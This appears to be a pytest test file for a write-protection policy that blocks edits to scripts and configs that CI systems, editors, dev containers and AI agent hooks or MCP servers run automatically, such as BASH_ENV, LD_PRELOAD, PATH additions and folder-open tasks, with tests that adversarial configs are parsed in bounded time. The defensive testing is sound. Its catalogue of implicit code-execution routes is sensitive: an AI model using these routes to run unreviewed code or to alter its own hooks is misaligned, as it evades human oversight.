@pytest.mark.parametrize("path", UP_NAMED)
def test_upward_search_preloads_and_shells(policy: Policy, up_ws: Path, path: str) -> None:
    _denied(policy, up_ws, path)


@pytest.mark.parametrize(
    "path", ["package.json", "svc/Taskfile.yaml.bak", "web/src/deep/app.js", "tools/x.sh"]
)
def test_upward_search_stops_at_the_file_it_finds(policy: Policy, up_ws: Path, path: str) -> None:
    _allowed(policy, up_ws, path)  # (the top's package.json: npm stops at web/)


# ---- 1e. environment a CI configuration sets that loads a file; module shadowing -------------

ENV_WORKFLOW = """on: push
env:
  BASH_ENV: ci/bash-env.sh
jobs:
  t:
    runs-on: ubuntu-latest
    env:
      NODE_OPTIONS: --require ./ci/node-pre.js
    steps:
      - run: npm test
        env:
          RUBYOPT: -r./ci/ruby-pre.rb
          PERL5OPT: -Mstrict
      - run: python -m pytest -q
      - run: python3 -m mytool.cli
        working-directory: pkgs
      - run: python -m build
"""
ENV_FILES = {
    "README.md": "r\n",
    ".github/workflows/env.yml": ENV_WORKFLOW,
    ".gitlab-ci.yml": (
        "variables:\n  ENV: ci/sh-env.sh\n  BASH_ENV: {value: ci/gl-bash-env.sh}\n"
        "t:\n  script: [echo hi]\n"
    ),
    ".circleci/config.yml": (
        "version: 2.1\njobs:\n  b:\n    environment: {BASH_ENV: ci/circle-env.sh}\n"
        "    shell: ./ci/circle-shell\n    steps: [{run: echo}]\n"
    ),
    "build/__init__.py": "x\n",  # the project's own `build` package
    "pkgs/mytool/cli.py": "x\n",
}
ENV_NAMED = [
    "ci/bash-env.sh",  # workflow `env: BASH_ENV`
    "ci/node-pre.js",  # job `env: NODE_OPTIONS: --require`
    "ci/ruby-pre.rb",  # step `env: RUBYOPT: -r./x`
    "ci/sh-env.sh",  # GitLab `variables: ENV`
    "ci/gl-bash-env.sh",  # GitLab `variables: {X: {value:}}`
    "ci/circle-env.sh",  # CircleCI `environment:`
    "ci/circle-shell",  # CircleCI `shell:`
    "pytest.py",  # `python -m pytest`: a shadow of the installed tool
    "pytest/__init__.py",
    "pytest/__main__.py",
]


@pytest.fixture(scope="module")
def env_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-env")
    return scratch_repo(root / "ws", ENV_FILES, tracked=tuple(ENV_FILES))


@pytest.mark.parametrize("path", ENV_NAMED)
def test_environment_that_loads_files_and_module_shadows(
    policy: Policy, env_ws: Path, path: str
) -> None:
    _denied(policy, env_ws, path)


@pytest.mark.parametrize(
    "path",
    [
        "build/__init__.py",  # `python -m build`: the project's own package, reviewed code
        "build/new.py",
        "pkgs/mytool/cli.py",
        "pkgs/mytool/other.py",
        "strict.pm",  # `PERL5OPT: -Mstrict`: a module name, not a path
        "pytest.ini",
    ],
)
def test_environment_controls(policy: Policy, env_ws: Path, path: str) -> None:
    _allowed(policy, env_ws, path)


# ---- 3b. agents, dev containers, editors and more CI systems that run scripts by path -------

AGENT_FILES = {
    "README.md": "r\n",
    ".mcp.json": (
        '{"mcpServers": {"local": {"command": "node", "args": ["./tools/mcp-server.js"]},\n'
        "  // a comment, as Claude Code accepts\n"
        '  "bin": {"command": "./bin/mcp-bin",},}}\n'
    ),
    ".claude/settings.json": (
        '{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", '
        '"command": "$CLAUDE_PROJECT_DIR/scripts/guard.sh"}]}], "Stop": [{"hooks": '
        '[{"type": "command", "command": "python3 scripts/stop.py"}]}]}}\n'
    ),
    ".cursor/mcp.json": '{"mcpServers": {"x": {"command": "python", "args": ["tools/cursor.py"]}}}\n',
    ".vscode/mcp.json": '{"servers": {"x": {"command": "${workspaceFolder}/tools/vsc-mcp"}}}\n',
    ".gemini/settings.json": '{"mcpServers": {"g": {"command": "bash", "args": ["tools/g.sh"]}}}\n',
    ".roo/mcp.json": '{"mcpServers": {"r": {"command": "uv", "args": ["run", "tools/r.py"]}}}\n',
    "opencode.json": '{"mcp": {"o": {"type": "local", "command": ["bun", "tools/oc.ts"]}}}\n',
    ".vscode/tasks.json": (
        '{"version": "2.0.0", "tasks": [{"label": "s", "command": "./scripts/on-open.sh",\n'
        '  "runOptions": {"runOn": "folderOpen"}}, {"label": "t", "command": "bash",\n'
        '  "args": ["scripts/task.sh"], "options": {"cwd": "web"},\n'
        '  "runOptions": {"runOn": "folderOpen"}},\n'
        '  {"label": "by hand", "command": "npm", "args": ["run", "build"]}]}\n'
    ),
    ".devcontainer/devcontainer.json": (
        '{"image": "x", "postCreateCommand": "bash scripts/post-create.sh",\n'
        ' "initializeCommand": ["sh", "scripts/init-host.sh"],\n'
        ' "postStartCommand": {"a": "./scripts/start-a.sh", "b": ["node", "scripts/b.js"]}}\n'
    ),
    ".gitpod.yml": "tasks:\n  - init: ./scripts/gp-init.sh\n    command: bash scripts/gp-cmd.sh\n",
    "appveyor.yml": "install:\n  - cmd: ci\\\\av.cmd\n  - sh: ./ci/av.sh\ntest_script:\n  - bash ci/av-test.sh\n",
    "buildspec.yml": "phases:\n  build:\n    commands:\n      - ./ci/codebuild.sh\n",
    "cloudbuild.yaml": "steps:\n- name: ubuntu\n  entrypoint: bash\n  args: ['ci/gcb.sh']\n- name: x\n  script: ./ci/gcb-script.sh\n",
    "azure-pipelines.yml": (
        "steps:\n- script: ./ci/az.sh\n- bash: bash ci/az-bash.sh\n  workingDirectory: azd\n"
        "- task: Bash@3\n  inputs: {targetType: filePath, filePath: ci/az-task.sh}\n"
    ),
    "Jenkinsfile": (
        "pipeline { agent any\n stages { stage('b') { steps {\n sh './ci/jenkins.sh'\n"
        ' sh(script: "bash ci/jenkins2.sh")\n } } } }\n'
    ),
    ".gitea/workflows/ci.yml": "on: push\njobs:\n  b:\n    steps:\n      - run: ./ci/gitea.sh\n",
    ".forgejo/workflows/ci.yml": "on: push\njobs:\n  b:\n    steps:\n      - run: ./ci/forgejo.sh\n",
    ".semaphore/semaphore.yml": (
        "blocks:\n  - task:\n      prologue: {commands: [./ci/sem-pro.sh]}\n"
        "      jobs: [{name: t, commands: [./ci/sem.sh]}]\n"
    ),
}
AGENT_NAMED = [
    "tools/mcp-server.js",  # .mcp.json `command` + `args` (JSON with a comment, commas)
    "bin/mcp-bin",
    "scripts/guard.sh",  # a Claude Code hook, `$CLAUDE_PROJECT_DIR/…`
    "scripts/stop.py",
    "tools/cursor.py",  # Cursor
    "tools/vsc-mcp",  # VS Code MCP, `${workspaceFolder}`
    "tools/g.sh",  # Gemini CLI
    "tools/r.py",  # Roo, `uv run FILE`
    "tools/oc.ts",  # opencode, `command` as an array
    "scripts/on-open.sh",  # a VS Code task that runs on folder open
    "web/scripts/task.sh",  # a task's `options.cwd`
    "scripts/post-create.sh",  # dev container lifecycle commands
    "scripts/init-host.sh",  # `initializeCommand`: on the host
    "scripts/start-a.sh",
    "scripts/b.js",
    "scripts/gp-init.sh",  # Gitpod
    "scripts/gp-cmd.sh",
    "ci/av.sh",  # AppVeyor
    "ci/av-test.sh",
    "ci/codebuild.sh",  # AWS CodeBuild
    "ci/gcb.sh",  # Cloud Build `entrypoint` + `args`
    "ci/gcb-script.sh",
    "ci/az.sh",  # Azure Pipelines `script:`
    "azd/ci/az-bash.sh",  # `bash:` in its `workingDirectory`
    "ci/az-task.sh",  # `Bash@3` `filePath`
    "ci/jenkins.sh",  # a Jenkinsfile's `sh`
    "ci/jenkins2.sh",
    "ci/gitea.sh",  # Gitea and Forgejo Actions
    "ci/forgejo.sh",
    "ci/sem-pro.sh",  # Semaphore
    "ci/sem.sh",
]


@pytest.fixture(scope="module")
def agent_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-agent")
    return scratch_repo(root / "ws", AGENT_FILES, tracked=tuple(AGENT_FILES))


@pytest.mark.parametrize("path", AGENT_NAMED)
def test_scripts_agents_editors_and_more_ci_run(policy: Policy, agent_ws: Path, path: str) -> None:
    _denied(policy, agent_ws, path)


@pytest.mark.parametrize(
    "path",
    [
        "scripts/other.sh",
        "tools/readme.md",
        "src/x.ts",
        "node",
        "package.json",  # a VS Code task run by hand (`npm run build`), not on folder open
    ],
)
def test_agent_and_editor_controls(policy: Policy, agent_ws: Path, path: str) -> None:
    _allowed(policy, agent_ws, path)


@pytest.mark.parametrize(
    ("config", "text", "script"),
    [
        (".circleci/config.yml", "jobs:\n  b:\n    steps: [{run: ./ci/late.sh}]\n", "ci/late.sh"),
        (".claude/settings.json", '{"hooks": {"Stop": [{"hooks": [{"type": "command", '
         '"command": "bash ci/late.sh"}]}]}}', "ci/late.sh"),
        (".kiro/settings/mcp.json", '{"mcpServers": {"k": {"command": "./ci/late"}}}', "ci/late"),
        (".gitea/workflows/x.yml", "jobs:\n  b:\n    steps: [{run: ./ci/late.sh}]\n", "ci/late.sh"),
        ("Makefile", "all:\n\t./ci/late.sh\n", "ci/late.sh"),  # CI already runs `make`
        ("web/package.json", '{"scripts": {"test": "node late.js"}}', "web/late.js"),
    ],
)  # fmt: skip
def test_a_configuration_made_later_is_followed(
    policy: Policy, tmp_path: Path, config: str, text: str, script: str
) -> None:
    """Absent configurations are watched through the nearest folder there is: making one
    (and its folders) refreshes the list at the next decision."""
    files = {
        "README.md": "r\n",
        ".husky/pre-push": "make\ncd web && npm test\n",
        "web/src/a.js": "x\n",
    }
    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
    _allowed(policy, ws, script)
    (ws / config).parent.mkdir(parents=True, exist_ok=True)
    (ws / config).write_text(text)
    _denied(policy, ws, script)


# ---- 1f. environment naming files, and workspace folders put on PATH -----------------------

PATH_WORKFLOW = """on: push
env:
  LD_PRELOAD: ./ci/preload.so
  MAKEFILES: ci/first.mk
  GIT_CONFIG_GLOBAL: ci/gitconfig
  NPM_CONFIG_USERCONFIG: ./ci/npmrc
  KUBECONFIG: ci/kube.yaml
  BUNDLE_GEMFILE: ci/Gemfile
  GIT_SSH_COMMAND: ./ci/ssh-wrap -o x
  PATH: ./envbin:/usr/bin
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$PWD/tools/bin" >> $GITHUB_PATH
      - run: echo "${{ github.workspace }}/bin2" >> "$GITHUB_PATH"
      - run: export PATH="./scripts:$PATH" && lint
      - run: PATH=node_modules/.bin:$PATH eslint .
      - run: echo "$HOME/.local/bin" >> $GITHUB_PATH
"""
PATH_FILES = {"README.md": "r\n", ".github/workflows/path.yml": PATH_WORKFLOW}
PATH_NAMED = [
    "ci/preload.so",
    "ci/first.mk",
    "ci/gitconfig",
    "ci/npmrc",
    "ci/kube.yaml",
    "ci/Gemfile",
    "ci/ssh-wrap",
    "envbin/make",  # `env: PATH:` with a workspace folder first
    "tools/bin/npm",  # `echo "$PWD/tools/bin" >> $GITHUB_PATH`
    "bin2/eslint",
    "scripts/lint",  # `export PATH="./scripts:$PATH"`
]


@pytest.fixture(scope="module")
def path_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-path")
    return scratch_repo(root / "ws", PATH_FILES, tracked=tuple(PATH_FILES))


@pytest.mark.parametrize("path", PATH_NAMED)
def test_environment_files_and_path_folders(policy: Policy, path_ws: Path, path: str) -> None:
    _denied(policy, path_ws, path)


@pytest.mark.parametrize(
    "path", ["node_modules/.bin/x", "src/a.py", "ci/notes.md", "tools/readme.md", ".local/x"]
)
def test_environment_and_path_controls(policy: Policy, path_ws: Path, path: str) -> None:
    _allowed(policy, path_ws, path)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Jenkinsfile", "sh '" + "x" * 200_000),  # an unclosed quote
        ("Jenkinsfile", 'sh """' * 40_000),  # unclosed triple quotes
        ("Jenkinsfile", "sh 'a\n" * 40_000),
        (".mcp.json", "{" + "/*" * 100_000),  # unclosed comments
        (".mcp.json", '{"command": "' + '\\"' * 100_000),
        (".claude/settings.json", "{" + '"a": [' * 30_000),
        (".github/workflows/x.yml", "jobs:\n" + "  - run: make -C d\n" * 12_000),
        ("Makefile", "\t./x.sh\n" * 30_000),
        # (before the fix: 244 s of CPU, a string pattern retried from every quote)
        ("package.json", '{"scripts": {"test": "' + '\\"' * 100_000),
        (".devcontainer/devcontainer.json", '{"dockerComposeFile": ["' + '\\"' * 100_000 + "]}"),
    ],
)
def test_adversarial_configurations_are_read_in_bounded_time(
    tmp_path: Path, name: str, text: str
) -> None:
    """Class 10: what these readers scan is linear in the (capped) file; the list stays
    bounded."""
    files = {"README.md": "r\n", ".husky/pre-commit": "make\nnpm test\n", name: text}
    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
    start = time.process_time()
    protected = repo_protected(Workspace(str(ws)))
    assert time.process_time() - start < 2.0, name
    assert len(protected) <= 300
